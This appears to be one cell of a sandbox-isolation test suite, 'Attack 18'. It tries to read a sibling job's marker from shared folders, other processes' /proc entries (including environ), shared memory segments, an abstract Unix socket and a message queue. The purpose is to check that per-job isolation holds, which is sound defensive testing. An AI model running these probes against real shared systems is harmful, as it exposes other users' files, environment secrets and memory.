# Attack 18: read, while it runs, what another submission has in its work folder, its memory files and its processes.
# Defence: each job has its own mounts and processes; without namespaces its own user, or Landlock.
# beside: victim

# %%
import glob
import time

MARKER = b"victim" + b"-4f1c"


def search(*tops):
    found = []
    for top in tops:
        for folder, folders, files in os.walk(top):
            folders[:] = [name for name in folders if not name.startswith(("proc", "sys", "usr"))]
            for name in files:
                path = os.path.join(folder, name)
                try:
                    if os.path.isfile(path) and os.path.getsize(path) < 1 << 16 and MARKER in open(path, "rb").read():
                        found.append(path)
                except OSError:
                    pass
    return found


def search_processes():
    found = []
    for process in filter(str.isdigit, os.listdir("/proc")):
        for name in ("cmdline", "environ", "maps", "cwd/victim.txt", "root/work/victim.txt", "root/tmp/victim.txt"):
            try:
                if MARKER in open(f"/proc/{process}/{name}", "rb").read():
                    found.append(f"{process}/{name}")
            except OSError:
                pass
    return found


def search_memory_segments():
    libc.shmat.restype = ctypes.c_void_p
    found = []
    for number in [libc.shmget(0x4F1C, 0, 0), *range(64)]:
        address = libc.shmat(number, None, 0o10000)
        if address not in (None, 2**64 - 1) and MARKER in ctypes.string_at(address, 64):
            found.append(number)
    return found


def search_sockets():
    end = socket.socket(socket.AF_UNIX)
    end.settimeout(1)
    end.connect("\0victim-socket")
    return end.recv(64)


# The victim needs a moment to get there; it waits for some seconds.
above = [path for path in (os.path.dirname(os.getcwd()),) if path != "/"]
for _ in range(8):
    attempt("files of a sibling", lambda: search("/work", "/tmp", "/dev/shm", "/var/tmp", *above))
    attempt("processes of a sibling", search_processes)
    attempt("shared memory of a sibling", search_memory_segments)
    attempt("abstract sockets of a sibling", search_sockets)
    attempt("message queues of a sibling", lambda: MARKER in open("/dev/mqueue/victim", "rb").read())
    time.sleep(0.25)
